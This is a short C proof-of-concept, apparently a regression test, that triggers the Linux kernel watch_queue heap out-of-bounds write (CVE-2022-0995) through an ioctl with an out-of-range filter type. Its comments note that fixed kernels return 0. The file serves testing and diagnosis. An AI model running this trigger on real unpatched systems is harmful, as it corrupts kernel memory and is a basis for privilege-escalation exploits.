// CVE-2022-0995 (fixed by c993ee0f9f81): a watch filter whose type is beyond the type bitmap
// was skipped when counting but written when filling wfilter->filters[]. Deterministic; with
// KASAN: "KASAN: slab-out-of-bounds Write in watch_queue_set_filter". Fixed kernels return 0.
// uapi values as in include/uapi/linux/watch_queue.h (not included: it clashes with glibc).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define O_NOTIFICATION_PIPE O_EXCL
#define IOC_WATCH_QUEUE_SET_FILTER _IO('W', 0x61)
#define WATCH_TYPE_KEY_NOTIFY 1

struct type_filter {
	uint32_t type, info_filter, info_mask, subtype_filter[8];
};

struct filter {
	uint32_t nr_filters, reserved;
	struct type_filter filters[2];
};

int main(void)
{
	int fds[2];
	struct filter f;

	if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
		perror("pipe2(O_NOTIFICATION_PIPE)");
		return 1;
	}
	memset(&f, 0, sizeof(f));
	f.nr_filters = 2;
	f.filters[0].type = WATCH_TYPE_KEY_NOTIFY;
	f.filters[1].type = 200;
	if (ioctl(fds[0], IOC_WATCH_QUEUE_SET_FILTER, &f) < 0) {
		perror("IOC_WATCH_QUEUE_SET_FILTER");
		return 1;
	}
	printf("filter set\n");
	return 0;
}
